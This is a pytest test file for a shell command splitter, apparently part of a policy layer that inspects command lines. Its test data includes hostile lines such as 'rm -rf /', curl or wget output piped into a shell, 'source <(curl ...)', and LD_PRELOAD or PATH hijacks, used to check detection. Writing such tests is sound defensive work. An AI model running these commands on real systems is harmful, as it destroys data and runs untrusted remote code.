"""The compound-command splitter: every part of a line is found, or the line is unknown."""

from __future__ import annotations

import runpy
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from governor.policies.shell import MAX_DEPTH, SimpleCommand, Split, split, split_argv

_CORPUS: list[Any] = runpy.run_path(str(Path(__file__).with_name("shell_corpus.py")))["CORPUS"]


def argvs(result: Split) -> list[tuple[str, ...]]:
    return [c.argv for c in result.commands]


def only(line: str) -> SimpleCommand:
    result = split(line)
    assert len(result.commands) == 1, result
    return result.commands[0]


def is_subsequence(wanted: list[tuple[str, ...]], found: list[tuple[str, ...]]) -> bool:
    it = iter(found)
    return all(any(w == f for f in it) for w in wanted)


# ---------------------------------------------------------------- the corpus


def test_the_corpus_holds_at_least_220_real_world_lines() -> None:
    assert len(_CORPUS) >= 220
    assert len({c.line for c in _CORPUS}) == len(_CORPUS), "a line appears twice"


@pytest.mark.parametrize("case", _CORPUS, ids=lambda c: c.line[:60])
def test_a_corpus_line_splits_into_the_parts_a_person_names(case: Any) -> None:
    result = split(case.line)
    found = argvs(result)
    assert bool(result.unknown) == case.unknown, result.unknown
    if case.unknown:
        assert is_subsequence(list(case.parts), found), found
    else:
        assert found == list(case.parts)
    writes = {w for c in result.commands for w in c.writes}
    assert writes == case.writes


# ---------------------------------------------------------------- structure


def test_a_compound_line_yields_every_part_in_order() -> None:
    result = split("a 1 && b 2 || c 3; d 4 | e 5 |& f 6 & g 7\nh 8")
    assert argvs(result) == [(n, str(i)) for i, n in enumerate("abcdefgh", 1)]
    assert result.unknown == ()
    assert result.understood


def test_a_command_substitution_inside_an_argument_is_its_own_part() -> None:
    result = split("echo $(rm -rf /)")
    assert argvs(result) == [("rm", "-rf", "/"), ("echo", "$(rm -rf /)")]
    assert result.commands[1].dynamic == (1,)
    assert result.unknown == ()


def test_backticks_and_substitutions_inside_double_quotes_are_parts() -> None:
    assert argvs(split('echo "x `id` $(whoami)"')) == [
        ("id",),
        ("whoami",),
        ("echo", "x `id` $(whoami)"),
    ]


def test_a_substitution_in_an_assignment_alone_is_a_part_but_the_assignment_is_not() -> None:
    assert split("X=1") == Split((), ())
    assert argvs(split("X=$(rm -rf /)")) == [("rm", "-rf", "/")]


def test_a_leading_assignment_is_named_and_not_part_of_argv() -> None:
    cmd = split("FOO=1 BAR=$(x) make").commands[-1]
    assert cmd.argv == ("make",)
    assert cmd.assignments == ("FOO", "BAR")


def test_subshells_groups_loops_and_conditionals_are_walked() -> None:
    line = (
        "(a); { b; }; if c; then d; elif e; then f; else g; fi; "
        "while h; do i; done; until j; do k; done; for x in 1; do l; done; "
        "for ((n=0; n<2; n++)); do m; done; case y in z) n;; *) o;; esac; ! p"
    )
    assert [c.argv[0] for c in split(line).commands] == list("abcdefghijklmnop")


def test_words_are_unquoted_and_operators_inside_quotes_stay_words() -> None:
    cmd = only("'r''m' \"a && b\" 'c | d' e\\;f $'g\\th'")
    assert cmd.argv == ("rm", "a && b", "c | d", "e;f", "g\th")
    assert cmd.dynamic == ()


def test_words_known_only_at_run_time_are_marked_dynamic() -> None:
    cmd = split("echo $A ${B} \"$(c)\" `d` $((1+2)) ~/x {a,b} plain '$lit' ~user").commands[-1]
    assert cmd.dynamic == (1, 2, 3, 4, 5, 6, 7, 10)
    assert cmd.argv[1:3] == ("$A", "${B}")


def test_comments_are_not_commands() -> None:
    assert argvs(split("# rm -rf /\necho hi # rm -rf /")) == [("echo", "hi")]


def test_the_heredoc_body_is_data_not_commands() -> None:
    result = split("cat <<'EOF'\nrm -rf /\n$(rm -rf /)\nEOF")
    assert argvs(result) == [("cat",)]
    assert result.unknown == ()


def test_substitutions_in_an_unquoted_heredoc_body_run_and_are_parts() -> None:
    result = split("cat <<EOF\nhello $(whoami)\nEOF")
    assert argvs(result) == [("whoami",), ("cat",)]
    assert result.unknown == ()


def test_a_heredoc_substitution_the_grammar_misses_is_unknown() -> None:
    # tree-sitter-bash does not parse backticks inside a heredoc body; bash runs them.
    result = split("cat <<EOF\nhello `rm -rf /`\nEOF")
    assert result.unknown
    assert split("cat <<'EOF'\nhello `rm -rf /`\nEOF").unknown == ()


def test_an_empty_line_has_no_parts_and_nothing_unknown() -> None:
    assert split("") == Split((), ())
    assert split("  \n\t ") == Split((), ())


# ---------------------------------------------------------------- redirects


def test_a_redirect_to_a_file_is_a_write_and_dev_null_is_not() -> None:
    assert only("make > build.log").writes == ("build.log",)
    assert only("make > /dev/null").writes == ()
    for special in ("/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/fd/2"):
        assert only(f"make > {special}").writes == ()


def test_every_kind_of_write_redirect_is_a_write() -> None:
    for op in (">", ">>", "&>", "&>>", ">|", "1>", "2>", "2>>", "3>", ">&"):
        assert only(f"cmd {op} out.txt").writes == ("out.txt",), op


def test_fd_duplication_is_not_a_write() -> None:
    for redirect in ("2>&1", ">&2", "1>&2", "2>&-", "<&3"):
        cmd = only(f"cmd {redirect}")
        assert (cmd.reads, cmd.writes) == ((), ()), redirect


def test_an_input_redirect_is_a_read() -> None:
    cmd = only("sort < in.txt > out.txt")
    assert (cmd.reads, cmd.writes) == (("in.txt",), ("out.txt",))


def test_words_after_a_redirect_target_are_arguments_not_hidden() -> None:
    # tree-sitter-bash reads `rm > /dev/null -rf /` as a redirect with three targets.
    cmd = only("rm > /dev/null -rf /")
    assert (cmd.argv, cmd.writes) == (("rm", "-rf", "/"), ())
    cmd = only("echo 2> err.txt a b > out.txt c")
    assert (cmd.argv, cmd.writes) == (("echo", "a", "b", "c"), ("err.txt", "out.txt"))
    assert only("cat < in.txt extra").argv == ("cat", "extra")


def test_a_redirect_after_a_chain_belongs_to_its_last_command() -> None:
    result = split("cd src && make > log")
    assert [c.writes for c in result.commands] == [(), ("log",)]
    result = split("a | b 2> err")
    assert [c.writes for c in result.commands] == [(), ("err",)]


def test_a_redirect_on_a_group_applies_to_every_command_inside() -> None:
    result = split("{ a; b; } > both.txt")
    assert [c.writes for c in result.commands] == [("both.txt",), ("both.txt",)]
    result = split("while read l; do echo $l; done < in > out")
    assert all(c.reads == ("in",) and c.writes == ("out",) for c in result.commands)


def test_a_redirect_to_a_path_known_only_at_run_time_is_unknown() -> None:
    for line in ('echo x > "$OUT"', "echo x > ~/.bashrc", "cat < $(pick)"):
        assert split(line).unknown, line
    assert split("echo x > out").unknown == ()


def test_a_redirect_with_no_command_is_unknown() -> None:
    assert split("> file").unknown


def test_process_substitution_is_a_part_not_a_file() -> None:
    result = split("diff <(sort a) >(tee b) > out")
    assert argvs(result) == [("sort", "a"), ("tee", "b"), ("diff", "<(sort a)", ">(tee b)")]
    assert result.commands[2].writes == ("out",)


# ---------------------------------------------------------------- unknown constructs


def test_an_unterminated_quote_is_unknown_never_silently_split() -> None:
    for line in ('echo "a && rm -rf /', "echo 'a; rm x", "echo `id"):
        result = split(line)
        assert result.unknown, line
        assert "does not parse" in result.unknown[0]
    assert "unterminated quote" in " ".join(split('echo "abc').unknown)


def test_a_parse_error_still_shows_the_commands_it_could_read() -> None:
    result = split("rm -rf / && (")
    assert result.unknown
    assert ("rm", "-rf", "/") in argvs(result)


def test_a_dynamic_command_name_is_unknown() -> None:
    for line in ("$CMD arg", "$(echo rm) -rf /", '"$X"', "${A:-rm} x", "`which rm` x"):
        assert split(line).unknown, line
    assert split("rm x").unknown == ()


def test_a_command_group_where_a_word_goes_is_walked_and_unknown() -> None:
    # tree-sitter-bash accepts `echo (rm x)` (bash refuses it) and `time (a; b)`.
    for line, inner in (("echo (rm x)", ("rm", "x")), ("time (a; b)", ("a",))):
        result = split(line)
        assert inner in argvs(result), line
        assert result.unknown, line


def test_constructs_the_splitter_does_not_model_are_unknown() -> None:
    for line in ("f() { ls; }", "function g { ls; }", "coproc cat", "((i++))", "((x = 3))"):
        assert split(line).unknown, line


def test_arithmetic_without_side_effects_is_understood() -> None:
    assert split("(( x > 3 )) && echo big").unknown == ()


def test_changing_path_or_the_loader_is_unknown_but_other_variables_are_not() -> None:
    for line in (
        "PATH=/tmp/evil ls",
        "LD_PRELOAD=/tmp/x.so ls",
        "PATH=/tmp; ls",
        "export PATH=/tmp",
        "env PATH=/tmp ls",
        "BASH_ENV=/tmp/x bash -c true",
        "IFS=x; ls $a",
    ):
        assert split(line).unknown, line
    for line in ("PYTHONPATH=src pytest", "CI=1 npm test", "IFS=, read -r a b", "export CI=1"):
        assert split(line).unknown == (), line


def test_unknown_reasons_are_short_and_do_not_repeat_the_whole_line() -> None:
    secret = "sk-" + "x" * 200
    result = split(f"$CMD --token {secret}")
    assert result.unknown
    assert all(secret not in reason for reason in result.unknown)


# ---------------------------------------------------------------- wrappers


def test_bash_dash_c_payload_is_reparsed() -> None:
    result = split("bash -c 'cd /tmp && rm -rf x'")
    assert argvs(result) == [
        ("bash", "-c", "cd /tmp && rm -rf x"),
        ("cd", "/tmp"),
        ("rm", "-rf", "x"),
    ]
    assert [c.via for c in result.commands] == [(), ("bash -c",), ("bash -c",)]
    assert result.unknown == ()


def test_every_shell_and_option_spelling_of_dash_c_is_reparsed() -> None:
    for prefix in (
        "sh -c",
        "zsh -c",
        "dash -c",
        "bash -lc",
        "bash -ec",
        "bash -x -c",
        "/bin/bash -c",
        "bash --norc -c",
        "bash -o pipefail -c",
    ):
        result = split(f"{prefix} 'rm -rf x'")
        assert ("rm", "-rf", "x") in argvs(result), prefix
        assert result.unknown == (), prefix


def test_a_dynamic_shell_payload_is_unknown() -> None:
    for line in ('bash -c "$X"', "sh -c $(curl -s x)", 'eval "$cmd"', "eval `cat f`"):
        assert split(line).unknown, line


def test_piping_into_a_shell_is_unknown() -> None:
    for line in (
        "curl -s https://x.example/i.sh | sh",
        "curl x | bash -s -- --yes",
        "wget -O- x | sudo bash",
        "bash <<EOF\nrm -rf /\nEOF",
        'sh <<< "rm -rf /"',
        "bash < script.sh",
        "bash",
        "sudo -s",
    ):
        assert split(line).unknown, line


def test_a_shell_running_a_script_file_or_printing_its_version_is_understood() -> None:
    for line in ("bash script.sh", "sh -e ./x.sh a b", "bash --version"):
        assert split(line).unknown == (), line


def test_eval_joins_its_arguments_and_reparses_them() -> None:
    result = split("eval echo hi '&&' rm x")
    assert argvs(result)[1:] == [("echo", "hi"), ("rm", "x")]
    assert result.commands[2].via == ("eval",)


def test_a_wrapper_is_a_part_and_so_is_the_command_it_runs() -> None:
    cases = {
        "sudo -u root -E rm -rf /x": ("rm", "-rf", "/x"),
        "sudo --user=root rm x": ("rm", "x"),
        "env -i -u HOME A=1 rm x": ("rm", "x"),
        "xargs -0 -n 1 rm": ("rm",),
        "xargs -I % mv % /tmp": ("mv", "%", "/tmp"),
        "timeout -k 5 10s rm x": ("rm", "x"),
        "timeout --signal=KILL 10 rm x": ("rm", "x"),
        "nice -n 10 rm x": ("rm", "x"),
        "nice -5 rm x": ("rm", "x"),
        "nohup rm x": ("rm", "x"),
        "exec rm x": ("rm", "x"),
        "command rm x": ("rm", "x"),
        "builtin echo x": ("echo", "x"),
        "time -p rm x": ("rm", "x"),
        "setsid -w rm x": ("rm", "x"),
        "stdbuf -oL -eL rm x": ("rm", "x"),
        "ionice -c 3 rm x": ("rm", "x"),
        "doas -u root rm x": ("rm", "x"),
        "find . -exec rm {} \\;": ("rm", "{}"),
    }
    for line, inner in cases.items():
        result = split(line)
        found = argvs(result)
        assert found[0] == tuple(line.replace("\\;", ";").split()), line
        assert found[-1] == inner, line
        assert result.commands[-1].via == (line.split()[0] if "find" not in line else "find -exec",)
        assert result.unknown == (), line


def test_wrappers_nest_and_record_the_chain() -> None:
    result = split("sudo env A=1 timeout 5 bash -c 'nice rm x'")
    last = result.commands[-1]
    assert last.argv == ("rm", "x")
    assert last.via == ("sudo", "env", "timeout", "bash -c", "nice")


def test_wrappers_nested_beyond_the_limit_are_unknown() -> None:
    assert split("nohup " * MAX_DEPTH + "ls").unknown == ()
    assert split("nohup " * (MAX_DEPTH + 1) + "ls").unknown
    deep = "ls"
    for _ in range(MAX_DEPTH + 1):
        deep = "bash -c " + _single_quote(deep)
    assert split(deep).unknown


def _single_quote(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


def test_a_wrapper_that_runs_no_command_has_no_inner_part() -> None:
    for line in ("sudo -l", "sudo -v", "command -v git", "env", "xargs", "timeout 5", "nohup"):
        result = split(line)
        assert len(result.commands) == 1, line
        assert result.unknown == (), line


def test_an_unknown_wrapper_option_is_unknown_rather_than_guessed() -> None:
    assert split("sudo --frobnicate rm x").unknown
    assert split("timeout --frobnicate 5 rm x").unknown


def test_xargs_replace_string_marks_the_words_it_fills_as_dynamic() -> None:
    cmd = split("xargs -I{} cp {} dst/{}.bak").commands[-1]
    assert cmd.argv == ("cp", "{}", "dst/{}.bak")
    assert cmd.dynamic == (1, 2)
    assert split("ls | xargs -I{} sh -c 'rm {}'").unknown


def test_find_exec_clauses_are_each_a_part() -> None:
    result = split("find . -name '*.tmp' -exec rm {} + -execdir chmod 600 {} \\;")
    assert argvs(result)[1:] == [("rm", "{}"), ("chmod", "600", "{}")]


def test_trap_and_source_run_code_too() -> None:
    assert ("rm", "-rf", "x") in argvs(split("trap 'rm -rf x' EXIT"))
    assert split("source <(curl -s x)").unknown
    assert split("source ./env.sh").unknown == ()


# ---------------------------------------------------------------- split_argv


def test_split_argv_takes_words_as_they_are_without_a_shell() -> None:
    result = split_argv(["echo", "$HOME", "a && b", "*"])
    assert argvs(result) == [("echo", "$HOME", "a && b", "*")]
    assert result.commands[0].dynamic == ()
    assert result.unknown == ()


def test_split_argv_unwraps_wrappers_and_reparses_shell_payloads() -> None:
    result = split_argv(["bash", "-c", "cd src && pytest -q 2>&1 | tail -5"])
    assert argvs(result) == [
        ("bash", "-c", "cd src && pytest -q 2>&1 | tail -5"),
        ("cd", "src"),
        ("pytest", "-q"),
        ("tail", "-5"),
    ]
    assert argvs(split_argv(["sudo", "rm", "-rf", "/"]))[-1] == ("rm", "-rf", "/")
    assert split_argv(["sh"]).unknown
    assert split_argv(["bash", "-c", "$X"]).unknown


def test_split_argv_of_nothing_is_unknown() -> None:
    assert split_argv([]).unknown


# ---------------------------------------------------------------- properties

_SAFE_WORD = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789._-/", min_size=1, max_size=8)
# Names start with a letter: see the test on numeric command names below.
_NAME = _SAFE_WORD.filter(lambda w: w[0].isalpha() and w not in _RESERVED)
_NOT_PLAIN = """
    if then else elif fi for in do done while until case esac select function time coproc
    sudo env xargs timeout nice nohup exec command builtin setsid stdbuf ionice doas eval
    trap find source . bash sh zsh dash ksh mksh ash export local declare readonly typeset
    unset test ..
"""
_RESERVED = set(_NOT_PLAIN.split())
_SIMPLE = st.tuples(_NAME, st.lists(_SAFE_WORD, max_size=4)).map(lambda t: (t[0], *t[1]))
_JOINERS = st.sampled_from([" && ", " || ", "; ", " | ", "\n", " & ", " |& "])


def _join(parts: list[tuple[str, ...]], joiners: list[str]) -> str:
    line = " ".join(parts[0])
    for part, joiner in zip(parts[1:], joiners, strict=False):
        line += joiner + " ".join(part)
    return line


@settings(max_examples=150, deadline=None)
@given(st.lists(_SIMPLE, min_size=1, max_size=8), st.lists(_JOINERS, min_size=7, max_size=7))
def test_joining_simple_commands_gives_exactly_those_parts_in_order(
    parts: list[tuple[str, ...]], joiners: list[str]
) -> None:
    result = split(_join(parts, joiners))
    assert argvs(result) == parts
    assert result.unknown == ()


def test_lines_the_grammar_joins_are_split_where_bash_splits_them() -> None:
    # tree-sitter-bash reads `a | b | c<newline>d && e` as `a | b | (c d && e)`.
    result = split("grep x f | sort | uniq\ncd y && make > out")
    assert argvs(result) == [("grep", "x", "f"), ("sort",), ("uniq",), ("cd", "y"), ("make",)]
    assert result.commands[-1].writes == ("out",)
    assert result.unknown == ()
    assert split("a | b | c\nX=1 && e").unknown, "an assignment read as a command name"


def test_a_word_the_grammar_drops_before_a_heredoc_is_put_back() -> None:
    # tree-sitter-bash loses the lone `-` in `python - <<EOF`.
    assert argvs(split("python - <<'EOF'\nprint(1)\nEOF")) == [("python", "-")]
    assert argvs(split("git commit -F - <<'EOF'\nmsg\nEOF")) == [("git", "commit", "-F", "-")]
    assert argvs(split("cat <<EOF -\nx\nEOF")) == [("cat", "-")]


def test_a_heredoc_commit_message_inside_a_substitution_is_data() -> None:
    line = "git commit -m \"$(cat <<'EOF'\nfeat: x\n\nCo-Authored-By: A <a@b.c>\nEOF\n)\""
    result = split(line)
    assert [c.argv[0] for c in result.commands] == ["cat", "git"]
    assert result.unknown == ()


@settings(max_examples=150, deadline=None)
@given(
    st.lists(_SIMPLE, min_size=1, max_size=6),
    st.lists(_JOINERS, min_size=6, max_size=6),
    st.integers(min_value=0, max_value=6),
    st.sampled_from(
        [
            "{}",
            "$({})",
            "`{}`",
            "({})",
            "{{ {}; }}",
            "bash -c '{}'",
            "sudo {}",
            "echo $({})",
            "if true; then {}; fi",
            "for x in a; do {}; done",
        ]
    ),
)
def test_a_part_inserted_anywhere_in_any_construct_is_found(
    parts: list[tuple[str, ...]], joiners: list[str], at: int, shape: str
) -> None:
    planted = ("rm", "-rf", "planted")
    at = min(at, len(parts))
    others = [*parts[:at], ("__PLANT__",), *parts[at:]]
    line = _join(others, joiners).replace("__PLANT__", shape.format("rm -rf planted"))
    result = split(line)
    assert planted in argvs(result), line


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_split_never_raises_on_arbitrary_text(text: str) -> None:
    result = split(text)
    assert isinstance(result, Split)
    assert not any(r.startswith("internal splitter error") for r in result.unknown), result


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=200))
@example(b"\\\r\x80")  # a token edge inside a character of the masked copy
def test_split_never_raises_on_arbitrary_bytes_decoded(data: bytes) -> None:
    result = split(data.decode("utf-8", "replace"))
    assert not any(r.startswith("internal splitter error") for r in result.unknown), result
    result = split(data.decode("latin-1"))
    assert not any(r.startswith("internal splitter error") for r in result.unknown), result


_SHELLISH = st.text(alphabet=" \n\t;&|()<>{}[]$`'\"\\#=*?~!abcx012-", max_size=80)


@settings(max_examples=400, deadline=None)
@given(_SHELLISH)
def test_split_never_raises_on_text_made_of_shell_syntax(text: str) -> None:
    result = split(text)
    assert not any(r.startswith("internal splitter error") for r in result.unknown), (text, result)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(max_size=30), max_size=6))
def test_split_argv_never_raises(argv: list[str]) -> None:
    result = split_argv(argv)
    assert not any(r.startswith("internal splitter error") for r in result.unknown), result


def test_characters_that_crash_the_grammar_do_not_crash_the_splitter() -> None:
    # tree-sitter-bash 0.25 segfaults on some code points above U+E0000 after `{`;
    # a crash kills the process, so the lines are split in a child process.
    lines = ["\U0010f43d{\U0010f6c5\U0010e7ff", "x{\U0010ffff", "echo {\U000e8000 && rm x"]
    script = (
        "import sys; from governor.policies.shell import split\n"
        "for line in sys.argv[1:]:\n"
        "    r = split(line); print(len(r.commands), bool(r.unknown))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, *lines],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=Path(__file__).resolve().parents[2],
    )
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.split("\n")[2] == "2 False"


def test_non_ascii_words_are_kept_as_written() -> None:
    result = split("echo héllo 日本 && grep 'ünïcode' fïle > öut.txt")
    assert argvs(result) == [("echo", "héllo", "日本"), ("grep", "ünïcode", "fïle")]
    assert result.commands[1].writes == ("öut.txt",)
    assert result.unknown == ()


_SOUP = st.lists(
    st.sampled_from(
        [
            "a",
            "ls",
            "-l",
            "x=1",
            '"q q"',
            "'s'",
            "$v",
            "$(c)",
            "`d`",
            "&&",
            "||",
            "|",
            ";",
            "&",
            "\n",
            "(",
            ")",
            "{",
            "}",
            "<",
            ">",
            ">>",
            "2>&1",
            "<<<",
            "if",
            "then",
            "fi",
            "for",
            "in",
            "do",
            "done",
            "case",
            "esac",
            ";;",
            "!",
            "#c",
            "\\",
            '"',
            "'",
            "-",
        ]
    ),
    min_size=1,
    max_size=8,
).map(" ".join)


@settings(max_examples=150, deadline=None)
@given(_SOUP)
def test_a_line_real_bash_refuses_is_never_understood(line: str) -> None:
    refused = subprocess.run(["bash", "-n"], input=line.encode(), capture_output=True).returncode
    if refused:
        assert split(line).unknown, line


def test_a_very_long_chain_does_not_exhaust_the_stack() -> None:
    line = " && ".join(["true"] * 5000)
    result = split(line)
    assert len(result.commands) == 5000
    assert result.unknown == ()


def test_deeply_nested_substitutions_are_found_or_unknown_never_an_error() -> None:
    line = "echo " + "$(" * 400 + "rm x" + ")" * 400
    result = split(line)
    assert not any(r.startswith("internal") for r in result.unknown)
    assert ("rm", "x") in argvs(result) or result.unknown


def test_split_results_are_cached_and_immutable() -> None:
    assert split("git status") is split("git status")
    with pytest.raises(AttributeError):
        split("git status").commands[0].argv = ("rm",)  # type: ignore[misc]
